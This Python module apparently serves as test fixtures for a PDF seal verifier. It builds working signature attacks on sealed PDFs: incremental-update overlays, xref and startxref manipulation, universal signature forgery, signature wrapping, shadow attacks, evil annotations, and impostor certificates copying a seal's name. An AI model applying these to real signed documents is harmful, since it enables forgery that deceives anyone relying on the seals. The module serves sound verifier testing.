"""Attack files built from our own sealed PDFs, each named for what it does.

The classes come from the PDF signature literature (Mladenov et al., "1 Trillion Dollar
Refund", CCS 2019: incremental saving, universal signature forgery, signature wrapping;
Mainka et al., "Shadow Attacks", NDSS 2021: hide, replace, hide-and-replace; Mladenov et
al., "Breaking the Certification of PDFs", S&P 2021: evil annotation, sneaky signature).
Every builder takes sealed bytes and returns attacked bytes, as an attacker holding the
file would produce them; none needs a key of ours.
"""

from __future__ import annotations

import io
import re
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from functools import cache
from typing import Any

from asn1crypto import keys as asn1_keys
from asn1crypto import x509 as asn1_x509
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.sign.fields import SigFieldSpec
from pyhanko.sign.signers import PdfSignatureMetadata, PdfSigner, SimpleSigner
from pyhanko.stamp import TextStampStyle
from pyhanko_certvalidator.registry import SimpleCertificateStore

__all__ = [
    "ATTACKS",
    "NotApplicableAttack",
    "shadow_document",
]


# pyHanko leaves these generic-object constructors and writer methods unannotated
# (``NumberObject``, ``DictionaryObject``, ``write``, ``add_stream_to_page``,
# ``register_annotation``, ``insert_page``, ``get_object``); each
# ``type: ignore[no-untyped-call]`` below is for that alone.


class NotApplicableAttack(Exception):  # noqa: N818 - a signal, like pytest.skip
    """The base document lacks what the attack changes (a text field, a cover XObject)."""


def _number(value: int) -> generic.NumberObject:
    return generic.NumberObject(value)  # type: ignore[no-untyped-call]


def _dictionary(
    entries: dict[generic.NameObject, generic.PdfObject] | None = None,
) -> generic.DictionaryObject:
    return generic.DictionaryObject(entries)  # type: ignore[no-untyped-call]


def _writer(pdf: bytes) -> IncrementalPdfFileWriter:
    return IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)


def _written(writer: IncrementalPdfFileWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)  # type: ignore[no-untyped-call]
    return out.getvalue()


def _first_page(writer: IncrementalPdfFileWriter) -> Any:
    """Page 1's indirect reference (indexing an array dereferences; raw_get does not)."""
    return writer.root["/Pages"]["/Kids"].raw_get(0)


def _stream(writer: IncrementalPdfFileWriter, data: bytes) -> Any:
    return writer.add_object(generic.StreamObject(stream_data=data))


def _signature_object(writer: IncrementalPdfFileWriter) -> tuple[Any, Any]:
    """(field dict, /V indirect object) of the document's first signature."""
    for field in writer.root["/AcroForm"]["/Fields"]:
        field_dict = field.get_object()
        value = field_dict.raw_get("/V") if "/V" in field_dict else None
        if isinstance(value, generic.IndirectObject):
            return field_dict, value
    raise AssertionError("no signed field")


# ---------------------------------------------------------------------- incremental saving


def incremental_saving_new_content(pdf: bytes) -> bytes:
    """A later revision paints over page 1 (a red block where the decision was)."""
    writer = _writer(pdf)
    writer.add_stream_to_page(  # type: ignore[no-untyped-call]
        0, _stream(writer, b"q 0.8 0 0 rg 72 560 450 120 re f Q"))
    return _written(writer)


def appended_objects_without_xref(pdf: bytes) -> bytes:
    """Objects written after %%EOF with no cross-reference section (lenient readers may
    still pick them up)."""
    return pdf + (b"\n4 0 obj\n<< /Length 33 >>\nstream\nq 0.8 0 0 rg 0 0 595 842 re f Q\n"
                  b"endstream\nendobj\n")


# ---------------------------------------------------------------------- unaccounted bytes
# Bytes after the last revision that no cross-reference chain lists: the verifier reads
# the chain from the last startxref, readers that rebuild the table scan the bytes.


def _startxrefs(pdf: bytes) -> list[int]:
    return [int(value) for value in re.findall(rb"startxref\s+(\d+)", pdf)]


def _page_redefinition(pdf: bytes) -> bytes:
    """Page 1's content stream redefined under its own object number: a red block."""
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    if reader.encrypted:
        reader.decrypt("")  # a file anyone may open
    contents = reader.root["/Pages"]["/Kids"][0].raw_get("/Contents")
    if isinstance(contents.get_object(), generic.ArrayObject):
        contents = contents.get_object().raw_get(0)
    body = b"q 0.8 0 0 rg 0 0 595 842 re f Q"
    return (b"%d %d obj\n<< /Length %d >>\nstream\n" % (contents.idnum, contents.generation,
                                                       len(body))
            + body + b"\nendstream\nendobj\n")


def object_redefined_after_last_revision(pdf: bytes) -> bytes:
    """Page 1's content stream redefined after %%EOF, with no cross-reference section."""
    return pdf + _page_redefinition(pdf)


def object_redefined_with_repeated_startxref(pdf: bytes) -> bytes:
    """The same redefinition followed by the last revision's startxref and %%EOF again,
    so the file still ends like the signed revision (the verifier reads the same chain)."""
    return (pdf + _page_redefinition(pdf)
            + b"startxref\n%d\n%%%%EOF\n" % _startxrefs(pdf)[-1])


def text_appended(pdf: bytes) -> bytes:
    """A line of text after the last %%EOF."""
    return pdf + "本证照已注销 / this licence is void\n".encode()


def comment_appended(pdf: bytes) -> bytes:
    """A PDF comment after the last %%EOF."""
    return pdf + b"%ZZBS 1.2.156.3005.2.forged\n"


def _empty_update(pdf: bytes) -> bytes:
    """A well-formed incremental update that re-writes the catalog unchanged."""
    writer = _writer(pdf)
    writer.update_root()  # type: ignore[no-untyped-call]
    return _written(writer)


def _set_last_startxref(pdf: bytes, value: int) -> bytes:
    at = pdf.rindex(b"startxref")
    end = pdf.index(b"%%EOF", at)
    return pdf[:at] + b"startxref\n%d\n" % value + pdf[end:]


def object_hidden_in_update(pdf: bytes) -> bytes:
    """A well-formed update whose byte span also defines page 1's content stream, which
    its cross-reference table does not list (the table's offset is corrected)."""
    updated = _empty_update(pdf)
    table = updated.rindex(b"\nxref") + 1
    assert table > len(pdf), "the update is expected to use a cross-reference table"
    hidden = _page_redefinition(pdf)
    moved = updated[:table] + hidden + updated[table:]
    return _set_last_startxref(moved, table + len(hidden))


def update_prev_skips_an_update(pdf: bytes) -> bytes:
    """Two updates: the first paints over page 1, the second's /Prev skips it and points
    at the signed revision, so the verifier's chain never reaches the first."""
    painted = incremental_saving_new_content(pdf)
    both = _empty_update(painted)
    trailer = both.rindex(b"trailer")
    prev = re.compile(rb"/Prev\s+(\d+)").search(both, trailer)
    assert prev is not None and int(prev.group(1)) == _startxrefs(painted)[-1]
    return (both[:prev.start(1)] + b"%d" % _startxrefs(pdf)[-1] + both[prev.end(1):])


def update_startxref_points_back(pdf: bytes) -> bytes:
    """An update that paints over page 1 whose startxref points back at the signed
    revision's cross-reference, so the verifier reads the chain without it."""
    return _set_last_startxref(incremental_saving_new_content(pdf), _startxrefs(pdf)[-1])


def hybrid_reference_update(pdf: bytes) -> bytes:
    """A table update whose trailer's /XRefStm names a cross-reference stream listing a
    page-content redefinition the table does not (ISO 32000-1 §7.5.8.4): PDF 1.4 readers
    ignore the stream, later readers show the redefinition."""
    previous = _startxrefs(pdf)[-1]
    out = bytearray(pdf)
    hidden_at = len(out)
    out += _page_redefinition(pdf)
    number = int(re.match(rb"(\d+)", bytes(out[hidden_at:])).group(1))  # type: ignore[union-attr]
    size = int(re.findall(rb"/Size\s+(\d+)", pdf)[-1])
    stream_at = len(out)
    rows = b"".join(bytes([1]) + at.to_bytes(4, "big") + bytes(2)
                    for at in (hidden_at, stream_at))
    out += (b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Index [%d 1 %d 1] "
            b"/Length %d >>\nstream\n" % (size, size + 1, number, size, len(rows))
            + rows + b"\nendstream\nendobj\n")
    table = len(out)
    trailer = PdfFileReader(io.BytesIO(pdf), strict=False).trailer_view
    root = trailer.raw_get("/Root")
    out += (b"xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size %d /Root %d %d R /Prev %d "
            b"/XRefStm %d >>\nstartxref\n%d\n%%%%EOF\n" % (
                size + 1, root.idnum, root.generation, previous, stream_at, table))
    return bytes(out)


# ---------------------------------------------------------------------- integrity


def _signed_range_end(pdf: bytes) -> int:
    """Where the first signed range ends (the opening '<' of /Contents)."""
    match = re.search(rb"/ByteRange\s*\[\s*0\s+(\d+)", pdf)
    assert match is not None
    return int(match.group(1))


def byte_flipped_in_content(pdf: bytes) -> bytes:
    """One bit of page 1's content stream flipped in place: same length, same objects,
    same offsets, but the signed bytes are not the bytes that were signed."""
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    contents = reader.root["/Pages"]["/Kids"][0].raw_get("/Contents")
    if isinstance(contents.get_object(), generic.ArrayObject):
        contents = contents.get_object().raw_get(0)
    signed_end = _signed_range_end(pdf)
    header = rb"(?<![0-9])%d 0 obj\b" % contents.idnum
    starts = [m.start() for m in re.finditer(header, pdf) if m.start() < signed_end]
    assert starts, "page 1's content stream is not in the signed range"
    keyword = re.compile(rb"stream\r?\n").search(pdf, starts[-1])
    assert keyword is not None
    stream = reader.get_object(contents).get_object()  # type: ignore[no-untyped-call]
    length = stream.raw_get("/Length")
    if isinstance(length, generic.IndirectObject):
        length = length.get_object()  # type: ignore[no-untyped-call]
    length = int(length)
    position = keyword.end() + length // 2
    assert position < signed_end
    return pdf[:position] + bytes([pdf[position] ^ 0x01]) + pdf[position + 1:]


def _flip_in_contents(pdf: bytes, value: Any) -> bytes:
    """One bit of the last byte of ``value(ContentInfo)`` (a signature value inside
    /Contents, which is not signed) flipped in place: the CMS still parses."""
    from asn1crypto import cms

    match = re.search(rb"/Contents\s*<([0-9a-fA-F]+)>", pdf)
    assert match is not None
    hex_digits = match.group(1)
    der = bytes.fromhex(hex_digits.decode("ascii"))
    content_info = cms.ContentInfo.load(der, strict=False)  # zero padding follows the DER
    target = bytes(value(content_info))
    at = der.find(target)
    assert at > 0 and der.find(target, at + 1) < 0
    last = at + len(target) - 1  # inside the last INTEGER of an ECDSA/RSA value
    corrupted = der[:last] + bytes([der[last] ^ 0x01]) + der[last + 1:]
    new_digits = corrupted.hex().encode("ascii")
    if hex_digits != hex_digits.lower():
        new_digits = new_digits.upper()
    return pdf[:match.start(1)] + new_digits + pdf[match.end(1):]


def signature_value_corrupted(pdf: bytes) -> bytes:
    """The signer's signature value corrupted: the signed digest still matches."""
    return _flip_in_contents(
        pdf, lambda info: info["content"]["signer_infos"][0]["signature"].native)


def timestamp_value_corrupted(pdf: bytes) -> bytes:
    """The signature time-stamp token's own signature value corrupted (the token still
    matches the signature value it stamps)."""
    def token_signature(info: Any) -> bytes:
        attributes = info["content"]["signer_infos"][0]["unsigned_attrs"]
        token = next(attribute["values"][0] for attribute in attributes
                     if attribute["type"].native == "signature_time_stamp_token")
        return bytes(token["content"]["signer_infos"][0]["signature"].native)

    return _flip_in_contents(pdf, token_signature)


# ---------------------------------------------------------------------- universal forgery


def _in_place(pdf: bytes, pattern: bytes,
              replace: Callable[[re.Match[bytes]], bytes]) -> bytes:
    match = re.search(pattern, pdf)
    assert match is not None, pattern
    new = replace(match)
    assert len(new) == match.end() - match.start()
    return pdf[:match.start()] + new + pdf[match.end():]


def contents_zeroed(pdf: bytes) -> bytes:
    """USF: /Contents overwritten with zeros in place (no signature at all)."""
    return _in_place(pdf, rb"/Contents\s*<([0-9a-fA-F]+)>",
                     lambda m: m.group(0)[:m.start(1) - m.start(0)] + b"0" * len(m.group(1))
                     + b">")


def byterange_zeroed(pdf: bytes) -> bytes:
    """USF: /ByteRange [0 0 0 0] in place (covers nothing)."""
    return _in_place(pdf, rb"/ByteRange\s*\[[0-9 ]+\]",
                     lambda m: b"/ByteRange [0 0 0 0]".ljust(len(m.group(0))))


def _redefine_signature(pdf: bytes, change: Any) -> bytes:
    writer = _writer(pdf)
    _field, value = _signature_object(writer)
    signature = value.get_object()
    change(signature)
    writer.mark_update(value)
    return _written(writer)


def contents_removed(pdf: bytes) -> bytes:
    """USF: a later revision redefines the signature dictionary without /Contents."""
    return _redefine_signature(pdf, lambda sig: sig.__delitem__("/Contents"))


def contents_emptied(pdf: bytes) -> bytes:
    """USF: a later revision sets /Contents to an empty string."""
    return _redefine_signature(
        pdf, lambda sig: sig.__setitem__("/Contents", generic.ByteStringObject(b"")))


def byterange_removed(pdf: bytes) -> bytes:
    """USF: a later revision redefines the signature dictionary without /ByteRange."""
    return _redefine_signature(pdf, lambda sig: sig.__delitem__("/ByteRange"))


# ---------------------------------------------------------------------- signature wrapping


def signature_dictionary_moved(pdf: bytes) -> bytes:
    """SWA: the signature dictionary, values unchanged, re-written in a later revision
    together with new page content, so the signed ranges no longer end the revision that
    holds the signature."""
    writer = _writer(pdf)
    _field, value = _signature_object(writer)
    writer.mark_update(value)
    writer.add_stream_to_page(  # type: ignore[no-untyped-call]
        0, _stream(writer, b"q 0 0 0.8 rg 72 300 200 40 re f Q"))
    return _written(writer)


def byterange_moved(pdf: bytes) -> bytes:
    """SWA: the ranges shifted to cover a copy of the signed tail appended at the end, with
    the real tail (and a malicious revision) left unsigned in a widened gap."""
    match = re.search(rb"/ByteRange\s*\[\s*0\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", pdf)
    assert match is not None
    first, second, length = (int(group) for group in match.groups())
    attacked = incremental_saving_new_content(pdf)
    tail = pdf[second:second + length]
    moved = len(attacked)
    new_range = f"/ByteRange [0 {first} {moved} {length}]".encode()
    width = match.end() - match.start()
    if len(new_range) > width:
        raise NotApplicableAttack("the moved /ByteRange does not fit in place")
    head = attacked[:match.start()] + new_range.ljust(width) + attacked[match.end():]
    return head + tail


# ---------------------------------------------------------------------- shadow attacks


@cache
def shadow_document() -> bytes:
    """What an applicant submits for sealing: page 1's decision text is covered by a
    white form XObject (/Cover), and an unused alternative text sits in /Alt."""
    import pikepdf

    from ..signing.documents import approval_pdf

    with pikepdf.open(io.BytesIO(approval_pdf(1))) as document:
        page = document.pages[0]
        cover = pikepdf.Stream(document, b"1 1 1 rg 60 540 480 150 re f")
        cover["/Type"] = pikepdf.Name("/XObject")
        cover["/Subtype"] = pikepdf.Name("/Form")
        cover["/BBox"] = pikepdf.Array([0, 0, 595, 842])
        alternative = pikepdf.Stream(document, b"0.8 0 0 rg 60 540 480 150 re f")
        alternative["/Type"] = pikepdf.Name("/XObject")
        alternative["/Subtype"] = pikepdf.Name("/Form")
        alternative["/BBox"] = pikepdf.Array([0, 0, 595, 842])
        resources = page.obj.get("/Resources")
        assert resources is not None
        xobjects = resources["/XObject"] if "/XObject" in resources else pikepdf.Dictionary()
        xobjects["/Cover"] = cover
        xobjects["/Alt"] = alternative
        resources["/XObject"] = xobjects
        page.contents_add(pikepdf.Stream(document, b"q /Cover Do Q"), prepend=False)
        out = io.BytesIO()
        document.save(out)
        return out.getvalue()


def _page_xobject(writer: IncrementalPdfFileWriter, name: str) -> Any:
    page = _first_page(writer).get_object()
    try:
        return page["/Resources"]["/XObject"].raw_get(name)
    except KeyError:
        raise NotApplicableAttack(f"page 1 has no XObject {name}") from None


def shadow_hide(pdf: bytes) -> bytes:
    """Shadow hide: the later revision empties the white cover, revealing what it hid."""
    writer = _writer(pdf)
    reference = _page_xobject(writer, "/Cover")
    cover = reference.get_object()
    cover.strip_filters()
    cover._data = cover._encoded_data = b""  # the attacker rewrites the object's bytes
    writer.mark_update(reference)
    return _written(writer)


def shadow_replace(pdf: bytes) -> bytes:
    """Shadow replace: the later revision points the page's /Cover name at /Alt."""
    writer = _writer(pdf)
    page = _first_page(writer)
    resources_ref = page.get_object().raw_get("/Resources")
    resources = resources_ref.get_object()
    if "/XObject" not in resources or "/Alt" not in resources["/XObject"]:
        raise NotApplicableAttack("page 1 has no /Cover and /Alt XObjects")
    xobjects_ref = resources.raw_get("/XObject")
    xobjects = xobjects_ref.get_object()
    xobjects[pdf_name("/Cover")] = xobjects.raw_get("/Alt")
    for holder in (page, resources_ref, xobjects_ref):
        if isinstance(holder, generic.IndirectObject):
            writer.mark_update(holder)
    return _written(writer)


def shadow_hide_and_replace(pdf: bytes) -> bytes:
    """Shadow hide-and-replace: the later revision gives page 1 new content streams."""
    writer = _writer(pdf)
    page = _first_page(writer)
    page_dict = page.get_object()
    page_dict[pdf_name("/Contents")] = _stream(
        writer, b"BT /F1 40 Tf 100 600 Td (REPLACED) Tj ET")
    writer.mark_update(page)
    return _written(writer)


# ---------------------------------------------------------------------- certification


def evil_annotation(pdf: bytes) -> bytes:
    """EAA: a FreeText annotation whose appearance covers the decision (annotations are
    not what a certification with P=1 or P=2 permits)."""
    writer = _writer(pdf)
    page = _first_page(writer)
    appearance = generic.StreamObject({
        pdf_name("/Type"): pdf_name("/XObject"), pdf_name("/Subtype"): pdf_name("/Form"),
        pdf_name("/BBox"): generic.ArrayObject([_number(0)] * 2 + [_number(450), _number(120)]),
    }, stream_data=b"1 1 1 rg 0 0 450 120 re f")
    annotation = _dictionary({
        pdf_name("/Type"): pdf_name("/Annot"), pdf_name("/Subtype"): pdf_name("/FreeText"),
        pdf_name("/Rect"): generic.ArrayObject([_number(v) for v in (72, 560, 522, 680)]),
        pdf_name("/Contents"): generic.TextStringObject("不予许可"),
        pdf_name("/DA"): generic.TextStringObject("/Helv 12 Tf 0 g"),
        pdf_name("/F"): _number(4),
        pdf_name("/AP"): _dictionary({
            pdf_name("/N"): writer.add_object(appearance)}),
        pdf_name("/P"): page,
    })
    writer.register_annotation(  # type: ignore[no-untyped-call]
        page, writer.add_object(annotation))
    return _written(writer)


def page_added(pdf: bytes) -> bytes:
    """A page appended after certification."""
    writer = _writer(pdf)
    new_page = _dictionary({
        pdf_name("/Type"): pdf_name("/Page"),
        pdf_name("/MediaBox"): generic.ArrayObject([_number(v) for v in (0, 0, 595, 842)]),
        pdf_name("/Contents"): _stream(writer, b"q 0.8 0 0 rg 72 600 450 120 re f Q"),
        pdf_name("/Resources"): _dictionary(),
    })
    writer.insert_page(new_page)  # type: ignore[no-untyped-call]
    return _written(writer)


@cache
def impostor_signer(certificate_der: bytes) -> SimpleSigner:
    """A self-made certificate with exactly the subject of a registered seal's."""
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.load_der_x509_certificate(certificate_der).subject
    now = datetime.now(UTC)
    certificate = (
        x509.CertificateBuilder().subject_name(name).issuer_name(name)
        .public_key(key.public_key()).serial_number(x509.random_serial_number())
        .not_valid_before(now - timedelta(days=1)).not_valid_after(now + timedelta(days=30))
        .add_extension(x509.KeyUsage(True, True, False, False, False, False, False, False,
                                     False), critical=True)
        .sign(key, hashes.SHA256()))
    private = key.private_bytes(serialization.Encoding.DER, serialization.PrivateFormat.PKCS8,
                                serialization.NoEncryption())
    return SimpleSigner(
        signing_cert=asn1_x509.Certificate.load(
            certificate.public_bytes(serialization.Encoding.DER)),
        signing_key=asn1_keys.PrivateKeyInfo.load(private),
        cert_registry=SimpleCertificateStore())  # type: ignore[no-untyped-call]


class _CarelessSigner(PdfSigner):
    """An attacker's tool: ignores the document's certification (DocMDP)."""

    def _enforce_certification_constraints(self, reader: PdfFileReader) -> None:
        return None


def _seal_certificate(pdf: bytes) -> bytes:
    reader = PdfFileReader(io.BytesIO(pdf))
    return bytes(reader.embedded_signatures[0].signer_cert.dump())


def sneaky_signature(pdf: bytes) -> bytes:
    """SSA: a new visible signature field whose appearance covers the decision, signed
    with a self-made certificate carrying the seal's own name."""
    signer = impostor_signer(_seal_certificate(pdf))
    pdf_signer = _CarelessSigner(
        PdfSignatureMetadata(field_name="Approval2"), signer,
        stamp_style=TextStampStyle(stamp_text="APPROVED", border_width=0),
        new_field_spec=SigFieldSpec("Approval2", on_page=0, box=(72, 560, 522, 680)))
    return bytes(pdf_signer.sign_pdf(_writer(pdf)).getvalue())


def impostor_second_signature(pdf: bytes) -> bytes:
    """A second, invisible signature by a self-made certificate with the seal's name."""
    signer = impostor_signer(_seal_certificate(pdf))
    pdf_signer = _CarelessSigner(PdfSignatureMetadata(field_name="Seal_impostor"), signer,
                                 new_field_spec=SigFieldSpec("Seal_impostor"))
    return bytes(pdf_signer.sign_pdf(_writer(pdf)).getvalue())


def impostor_alone(pdf: bytes) -> bytes:
    """The document as it was before it was sealed, signed instead by a self-made
    certificate carrying the seal's name: only an untrusted signature (INDETERMINATE)."""
    reader = PdfFileReader(io.BytesIO(pdf))
    end = pdf.index(b"%%EOF", reader.xrefs.get_xref_container_info(0).end_location) + 5
    original = pdf[:end] + b"\n"
    signer = impostor_signer(_seal_certificate(pdf))
    pdf_signer = _CarelessSigner(PdfSignatureMetadata(field_name="Seal_impostor"), signer,
                                 new_field_spec=SigFieldSpec("Seal_impostor"))
    return bytes(pdf_signer.sign_pdf(_writer(original)).getvalue())


# ---------------------------------------------------------------------- changes after a seal
# What issue 13 §3 measured passing: additions a viewer shows as part of the document.
# A seal of this service is final: each of these fails it (changes.not_permitted or,
# for what no certification permits, changes.forbidden).


def _banner(writer: IncrementalPdfFileWriter, text: bytes, width: int, height: int) -> Any:
    return writer.add_object(generic.StreamObject({
        pdf_name("/Type"): pdf_name("/XObject"), pdf_name("/Subtype"): pdf_name("/Form"),
        pdf_name("/BBox"): generic.ArrayObject([_number(0), _number(0), _number(width),
                                                _number(height)]),
    }, stream_data=b"0.8 0 0 rg 0 0 %d %d re f " % (width, height) + text))


def _empty_signature_field(writer: IncrementalPdfFileWriter, name: str,
                           rect: tuple[int, int, int, int], *, drawn: bool) -> None:
    page = _first_page(writer)
    entries: dict[generic.NameObject, generic.PdfObject] = {
        pdf_name("/Type"): pdf_name("/Annot"), pdf_name("/Subtype"): pdf_name("/Widget"),
        pdf_name("/FT"): pdf_name("/Sig"), pdf_name("/T"): generic.TextStringObject(name),
        pdf_name("/F"): _number(4 if drawn else 132),
        pdf_name("/Rect"): generic.ArrayObject([_number(v) for v in rect]),
        pdf_name("/P"): page,
    }
    if drawn:
        entries[pdf_name("/AP")] = _dictionary({pdf_name("/N"): _banner(
            writer, b"BT 1 1 1 rg /Helv 18 Tf 10 20 Td (VOID - REVOKED) Tj ET",
            rect[2] - rect[0], rect[3] - rect[1])})
    field = writer.add_object(_dictionary(entries))
    writer.register_annotation(page, field)  # type: ignore[no-untyped-call]
    if "/AcroForm" not in writer.root:
        writer.root[pdf_name("/AcroForm")] = writer.add_object(_dictionary({
            pdf_name("/Fields"): generic.ArrayObject([field])}))
        writer.update_root()  # type: ignore[no-untyped-call]
        return
    writer.root["/AcroForm"]["/Fields"].append(field)
    holder = writer.root.raw_get("/AcroForm")
    if isinstance(holder, generic.IndirectObject):
        writer.mark_update(holder)
    else:
        writer.update_root()  # type: ignore[no-untyped-call]


def empty_signature_field_visible(pdf: bytes) -> bytes:
    """An unsigned signature field whose own appearance draws a red banner over page 1
    (measured passing after an approval seal as "form filling or signing")."""
    writer = _writer(pdf)
    _empty_signature_field(writer, "Banner", (72, 560, 522, 620), drawn=True)
    return _written(writer)


def empty_signature_field_invisible(pdf: bytes) -> bytes:
    """An unsigned, invisible signature field (zero rectangle, hidden)."""
    writer = _writer(pdf)
    _empty_signature_field(writer, "Spare", (0, 0, 0, 0), drawn=False)
    return _written(writer)


def empty_signature_fields_eighty(pdf: bytes) -> bytes:
    """80 invisible empty signature fields (measured passing after an approval seal as
    "time-stamps and validation data only")."""
    writer = _writer(pdf)
    for number in range(80):
        _empty_signature_field(writer, f"Spare{number}", (0, 0, 0, 0), drawn=False)
    return _written(writer)


def widget_without_field(pdf: bytes) -> bytes:
    """A widget annotation in page 1's /Annots that belongs to no form field, drawing a
    banner (a viewer shows it; no field tree lists it)."""
    writer = _writer(pdf)
    page = _first_page(writer)
    widget = writer.add_object(_dictionary({
        pdf_name("/Type"): pdf_name("/Annot"), pdf_name("/Subtype"): pdf_name("/Widget"),
        pdf_name("/Rect"): generic.ArrayObject([_number(v) for v in (72, 560, 522, 620)]),
        pdf_name("/F"): _number(4), pdf_name("/P"): page,
        pdf_name("/AP"): _dictionary({pdf_name("/N"): _banner(writer, b"", 450, 60)}),
    }))
    writer.register_annotation(page, widget)  # type: ignore[no-untyped-call]
    return _written(writer)


def note_annotation(pdf: bytes) -> bytes:
    """A sticky-note (Text) annotation on page 1: annotation-only."""
    writer = _writer(pdf)
    page = _first_page(writer)
    note = writer.add_object(_dictionary({
        pdf_name("/Type"): pdf_name("/Annot"), pdf_name("/Subtype"): pdf_name("/Text"),
        pdf_name("/Rect"): generic.ArrayObject([_number(v) for v in (500, 700, 520, 720)]),
        pdf_name("/Contents"): generic.TextStringObject("此决定已撤销"),
        pdf_name("/Open"): generic.BooleanObject(True),  # type: ignore[no-untyped-call]
        pdf_name("/P"): page,
    }))
    writer.register_annotation(page, note)  # type: ignore[no-untyped-call]
    return _written(writer)


def open_action_added(pdf: bytes) -> bytes:
    """A JavaScript /OpenAction in the catalog: the document runs code when opened."""
    writer = _writer(pdf)
    writer.root[pdf_name("/OpenAction")] = writer.add_object(_dictionary({
        pdf_name("/S"): pdf_name("/JavaScript"),
        pdf_name("/JS"): generic.TextStringObject("app.alert('核验通过');"),
    }))
    writer.update_root()  # type: ignore[no-untyped-call]
    return _written(writer)


def page_cropped(pdf: bytes) -> bytes:
    """Page 1 redefined with a /CropBox that leaves the decision outside the view."""
    writer = _writer(pdf)
    page = _first_page(writer)
    page.get_object()[pdf_name("/CropBox")] = generic.ArrayObject(
        [_number(v) for v in (0, 0, 595, 300)])
    writer.mark_update(page)
    return _written(writer)


def info_title_changed(pdf: bytes) -> bytes:
    """The document information's /Title rewritten (a viewer's window title)."""
    writer = _writer(pdf)
    info = writer.trailer.raw_get("/Info") if "/Info" in writer.trailer else None
    if not isinstance(info, generic.IndirectObject):
        raise NotApplicableAttack("no indirect /Info dictionary")
    info.get_object()[pdf_name("/Title")] = generic.TextStringObject(  # type: ignore[no-untyped-call]
        "不予许可决定书")
    writer.mark_update(info)
    return _written(writer)


def xmp_title_added(pdf: bytes) -> bytes:
    """A new XMP packet whose dc:title says something the seal never saw."""
    writer = _writer(pdf)
    packet = ('<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta '
              'xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/'
              '22-rdf-syntax-ns#"><rdf:Description rdf:about="" xmlns:dc="http://purl.org/'
              'dc/elements/1.1/"><dc:title><rdf:Alt><rdf:li xml:lang="x-default">不予许可'
              '</rdf:li></rdf:Alt></dc:title></rdf:Description></rdf:RDF></x:xmpmeta>'
              '<?xpacket end="w"?>').encode()
    from pyhanko.pdf_utils.metadata.xmp_xml import MetadataStream

    # pyHanko's writer refreshes a MetadataStream on write and keeps its properties.
    writer.root[pdf_name("/Metadata")] = writer.add_object(MetadataStream(stream_data=packet))
    writer.update_root()  # type: ignore[no-untyped-call]
    return _written(writer)


def form_value_changed(pdf: bytes) -> bytes:
    """The applicant text field's value and appearance replaced."""
    from .foreign import fill_text_field

    try:
        return fill_text_field(pdf, "Wang Wu")
    except (LookupError, KeyError):
        raise NotApplicableAttack("no applicant text field") from None


def impostor_in_reserved_field(pdf: bytes) -> bytes:
    """The field the certifying seal reserved for a co-sealer, signed by a self-made
    certificate carrying the seal's name."""
    reader = PdfFileReader(io.BytesIO(pdf))
    from pyhanko.sign.fields import enumerate_sig_fields

    empty = [name for name, value, _ref in enumerate_sig_fields(reader) if value is None]
    if not empty:
        raise NotApplicableAttack("no reserved signature field")
    signer = impostor_signer(_seal_certificate(pdf))
    pdf_signer = PdfSigner(PdfSignatureMetadata(field_name=empty[0]), signer,
                           stamp_style=TextStampStyle(stamp_text="APPROVED", border_width=0))
    return bytes(pdf_signer.sign_pdf(_writer(pdf)).getvalue())


ATTACKS = {
    "byte_flipped_in_content": byte_flipped_in_content,
    "signature_value_corrupted": signature_value_corrupted,
    "timestamp_value_corrupted": timestamp_value_corrupted,
    "incremental_saving_new_content": incremental_saving_new_content,
    "appended_objects_without_xref": appended_objects_without_xref,
    "object_redefined_after_last_revision": object_redefined_after_last_revision,
    "object_redefined_with_repeated_startxref": object_redefined_with_repeated_startxref,
    "text_appended": text_appended,
    "comment_appended": comment_appended,
    "object_hidden_in_update": object_hidden_in_update,
    "update_prev_skips_an_update": update_prev_skips_an_update,
    "update_startxref_points_back": update_startxref_points_back,
    "hybrid_reference_update": hybrid_reference_update,
    "usf_contents_zeroed": contents_zeroed,
    "usf_contents_removed": contents_removed,
    "usf_contents_emptied": contents_emptied,
    "usf_byterange_zeroed": byterange_zeroed,
    "usf_byterange_removed": byterange_removed,
    "swa_signature_dictionary_moved": signature_dictionary_moved,
    "swa_byterange_moved": byterange_moved,
    "shadow_hide": shadow_hide,
    "shadow_replace": shadow_replace,
    "shadow_hide_and_replace": shadow_hide_and_replace,
    "evil_annotation": evil_annotation,
    "sneaky_signature": sneaky_signature,
    "page_added": page_added,
    "impostor_second_signature": impostor_second_signature,
    "empty_signature_field_visible": empty_signature_field_visible,
    "empty_signature_field_invisible": empty_signature_field_invisible,
    "empty_signature_fields_eighty": empty_signature_fields_eighty,
    "widget_without_field": widget_without_field,
    "note_annotation": note_annotation,
    "open_action_added": open_action_added,
    "page_cropped": page_cropped,
    "info_title_changed": info_title_changed,
    "xmp_title_added": xmp_title_added,
    "form_value_changed": form_value_changed,
    "impostor_in_reserved_field": impostor_in_reserved_field,
}
